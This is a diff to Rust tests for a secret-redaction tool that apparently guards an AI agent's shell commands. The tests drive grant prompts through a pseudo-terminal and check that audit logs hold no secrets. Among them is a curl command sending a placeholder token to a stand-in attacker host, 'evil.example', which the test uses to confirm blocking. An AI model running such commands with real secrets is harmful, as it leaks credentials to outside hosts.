@@ -172,19 +172,42 @@ fn an_assistant_cannot_grant_itself_anything() {
     ask(&desk, &["grant", "list"]).exits(0).prints("no grants");
 }
 
-/// Runs a command as a person at a terminal does.
+/// Runs a command as a person at a terminal does, who answers what is asked with what
+/// `answer` makes of it. Standard output and error of the run are what it printed and
+/// what was seen on the terminal.
 #[cfg(target_os = "linux")]
-fn at_terminal(desk: &Desk, args: &[&str]) -> Run {
+fn at_terminal(desk: &Desk, args: &[&str], answer: impl Fn(&str) -> Option<String>) -> Run {
+    use std::io::{Read as _, Write as _};
     use std::process::Stdio;
 
     use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
     let terminal = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).expect("a terminal");
     grantpt(&terminal).and_then(|()| unlockpt(&terminal)).expect("a terminal");
     let name = ptsname(&terminal, Vec::new()).expect("a name");
-    let stdin = File::options().read(true).write(true).open(name.to_str().expect("text")).expect("a terminal");
+    let open = || File::options().read(true).write(true).open(name.to_str().expect("text")).expect("a terminal");
     let mut command = command(desk, args);
-    let child = command.stdin(stdin).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("a run");
-    finish(child)
+    let child = command.stdin(open()).stdout(Stdio::piped()).stderr(open()).spawn().expect("a run");
+    // The command holds the other end; without it the terminal ends with the run.
+    drop(command);
+    let mut person = File::from(terminal);
+    let seen = thread::spawn(move || finish(child));
+    let (mut text, mut buffer, mut answered) = (String::new(), [0; 1024], false);
+    while let Ok(n_bytes @ 1..) = person.read(&mut buffer) {
+        text.push_str(&String::from_utf8_lossy(&buffer[..n_bytes]));
+        if !answered && let Some(answer) = answer_of(&text, &answer) {
+            writeln!(person, "{answer}").expect("a terminal");
+            answered = true;
+        }
+    }
+    let run = seen.join().expect("no panic");
+    Run { stderr: text, ..run }
+}
+
+/// What a person types once the question is there.
+#[cfg(target_os = "linux")]
+fn answer_of(text: &str, answer: &impl Fn(&str) -> Option<String>) -> Option<String> {
+    let code = text.split_once("Type ")?.1.split_once(" to grant it: ")?.0;
+    answer(code)
 }
 
 #[test]
@@ -194,10 +217,9 @@ fn a_grant_lets_one_thing_pass_and_is_recorded() {
     let placeholder = desk.redacted(&desk.token);
     let send = bash(&format!("leaktight run --env T={} -- curl https://api.example.com/", placeholder.trim()));
     assert!(denied(&desk.claude("PreToolUse", send.clone())).contains("grant add"));
-    let granted = at_terminal(
-        &desk,
-        &["grant", "add", "--class", "github-*", "--to", "api.example.com", "--for", "5m", "--reason", "release"],
-    );
+    let add = ["grant", "add", "--class", "github-*", "--to", "api.example.com", "--for", "5m", "--reason", "release"];
+    let granted = at_terminal(&desk, &add, |code| Some(code.to_owned()));
+    granted.says("secret.restore of github-* to network:api.example.com, once, for 5 min: release");
     granted.exits(0).prints("secret.restore of github-* to network:api.example.com, once, for 5 min: release");
     ask(&desk, &["grant", "list"]).exits(0).prints("release");
     let elsewhere = bash(&format!("leaktight run --env T={} -- curl https://evil.example/", placeholder.trim()));
@@ -207,4 +229,36 @@ fn a_grant_lets_one_thing_pass_and_is_recorded() {
     ask(&desk, &["grant", "list"]).exits(0).prints("no grants");
     ask(&desk, &["audit", "tail"]).exits(0).prints("(grant:g_");
     ask(&desk, &["audit", "verify"]).exits(0);
+}
+
+#[test]
+#[cfg(target_os = "linux")]
+fn a_grant_takes_a_code_that_is_read() {
+    let desk = Desk::new();
+    let add = ["grant", "add", "--class", "*", "--to", "*"];
+    for prepared in ["y", "yes", "aaaa", ""] {
+        at_terminal(&desk, &add, |_| Some(prepared.to_owned())).exits(2).says("nothing is granted");
+    }
+    ask(&desk, &["grant", "list"]).exits(0).prints("no grants");
+    at_terminal(&desk, &add, |code| Some(format!(" {} ", code.to_uppercase()))).exits(0);
+}
+
+#[test]
+#[cfg(target_os = "linux")]
+fn grants_are_recorded_without_secrets() {
+    let desk = Desk::new();
+    let reason = format!("with {}", desk.token);
+    let add = ["grant", "add", "--class", "github-*", "--to", "api.example.com", "--reason", &reason];
+    let granted = at_terminal(&desk, &add, |code| Some(code.to_owned()));
+    let id = granted.stdout.split_whitespace().next().expect("a name").to_owned();
+    ask(&desk, &["grant", "revoke", &id]).exits(0);
+    let lines = run(&mut command(&desk, &["audit", "tail", "--json"]), b"");
+    let lines: Vec<Value> = lines.stdout.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
+    assert_eq!((&lines[0]["action"], &lines[0]["effect"]), (&json!("grant.add"), &json!("allow")));
+    assert_eq!((&lines[1]["action"], &lines[1]["effect"]), (&json!("grant.revoke"), &json!("block")));
+    for line in &lines {
+        assert!(line["resource"].as_str().is_some_and(|text| text.contains(&id)), "{line}");
+        assert!(!line.to_string().contains(&desk.token), "a reason may hold anything");
+    }
+    ask(&desk, &["audit", "verify"]).exits(0).prints("2 lines hold");
 }
